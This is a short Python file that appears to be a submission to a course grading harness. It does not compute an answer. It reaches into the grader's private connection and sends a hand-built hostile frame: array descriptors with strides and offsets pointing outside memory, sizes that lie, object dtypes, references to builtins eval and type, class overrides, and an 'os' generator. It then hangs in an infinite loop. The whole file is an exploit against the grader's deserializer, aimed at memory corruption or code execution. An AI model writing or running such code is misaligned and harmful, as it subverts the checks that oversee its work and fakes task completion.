"""Answers with a frame of its own making: strides that lead out of the memory, sizes that lie, types of objects, another's numbers."""
import json
import struct
import sys

array = [101, "array", 103, "<f8", [len(q), len(k)], [8, 8], 0, True]
frames = [
    [array[:5] + [[-4096, 8], 0, True], [103, "memory", 0]], [array[:5] + [[8, 8], -1 << 40, True], [103, "memory", 0]],
    [array[:4] + [[1 << 40, 1 << 40], [0, 0], 0, True], [103, "memory", 0]], [array[:3] + ["|O"] + array[4:], [103, "memory", 0]],
    [array, [103, "memory", 5]], [[0, "memory", 0]], [[101, "far", ["__class__", True, True]]], [[101, "name", "builtins:eval"]],
    [[101, "object", "builtins:type", {"__class__": 1}]], [[101, "object", "minillm.layers:Shape", {"__eq__": True, "n": 1}]],
    [[101, "list", [["@", 101]]], [101, "dict", []]], [[0, "list", []]], [[101, "set", [["@", 101]]]], [[101, "generator", {"bit_generator": "os"}]],
]
pick = int(abs(float(q.sum())) * 1e6) % len(frames)
head = {"op": "return", "value": ["@", 101], "changes": frames[pick], "seen": [0, 101, -7, "x"]}
text, memory = json.dumps(head).encode(), b"@" * 8 * len(q) * len(k)
connection = sys.modules["minillm.course.grading.proxies"].LANE.lane.connection
connection.sendall(struct.pack(">II", len(text), 1) + struct.pack(">Q", len(memory)) + text + memory)
while True:
    pass
